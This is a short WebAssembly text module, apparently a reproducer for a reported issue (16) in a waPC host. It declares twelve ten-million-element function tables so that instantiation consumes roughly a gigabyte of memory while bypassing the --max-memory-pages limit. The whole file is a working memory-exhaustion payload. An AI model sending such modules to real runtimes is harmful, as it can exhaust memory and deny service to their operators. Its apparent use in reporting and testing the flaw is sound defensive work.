;; A 205-byte kind of attack (issue 16): a waPC module whose twelve tables of ten million
;; elements each cost about 80 MB apiece when instantiated, whatever --max-memory-pages.
(module
  (import "wapc" "__guest_response" (func $resp (param i32 i32)))
  (memory (export "memory") 1)
  (table 10000000 funcref) (table 10000000 funcref) (table 10000000 funcref)
  (table 10000000 funcref) (table 10000000 funcref) (table 10000000 funcref)
  (table 10000000 funcref) (table 10000000 funcref) (table 10000000 funcref)
  (table 10000000 funcref) (table 10000000 funcref) (table 10000000 funcref)
  (func (export "__guest_call") (param i32 i32) (result i32)
    (call $resp (i32.const 0) (i32.const 0))
    (i32.const 1)))
